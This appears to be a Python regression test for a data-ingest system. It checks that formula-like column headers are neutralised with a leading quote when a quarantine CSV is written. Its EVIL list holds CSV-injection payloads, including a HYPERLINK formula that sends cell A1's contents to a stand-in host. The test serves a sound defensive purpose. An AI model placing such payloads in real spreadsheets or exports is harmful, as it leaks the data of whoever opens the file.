"""The quarantine CSV defuses the sector's *header* cells too (issue 11.16).

A sector file's column names travel into the quarantine CSV as its header row; a column named
``=HYPERLINK(...)`` ran as a formula when the sector's staff opened the file in a spreadsheet.
"""

from __future__ import annotations

import asyncio
import csv
import gzip
from pathlib import Path

from tests.rnu.ingest.builders import SIS_HEADER, population, write_pgh
from usecases.loads import load_file, plan_file, write_quarantine

EVIL = ['=HYPERLINK("http://x.example/?"&A1)', "+SUM(1+1)", "-2+3", "@cmd", "\tTAB"]


def test_formula_like_header_cells_are_defused(ingest_db: str, tmp_path: Path) -> None:
    people = population("Q", 1)
    asyncio.run(load_file(ingest_db, plan_file(write_pgh(tmp_path / "pgh_202610.csv", people))))
    path = tmp_path / "sis_202610.csv.gz"
    with gzip.open(path, "wt", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow([*SIS_HEADER.split(","), *EVIL])
        # an exact copy is quarantined (a bad date no longer is: it is a note on the row)
        row = next(csv.reader([people[0].sis_line()]))
        writer.writerow([*row, *("x" for _ in EVIL)])
        writer.writerow([*row, *("x" for _ in EVIL)])
    result = asyncio.run(load_file(ingest_db, plan_file(path)))
    assert result.rows_quarantined == 1
    out = tmp_path / "q.csv"
    assert asyncio.run(write_quarantine(ingest_db, result.batch_id, out)) == 1
    with out.open(encoding="utf-8-sig", newline="") as fh:
        header = next(csv.reader(fh))
    extra = [cell for cell in header if cell.lstrip("'") in EVIL]
    assert extra, header  # the sector's extra columns are kept, as data
    assert all(cell.startswith("'") for cell in extra), extra
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in header)
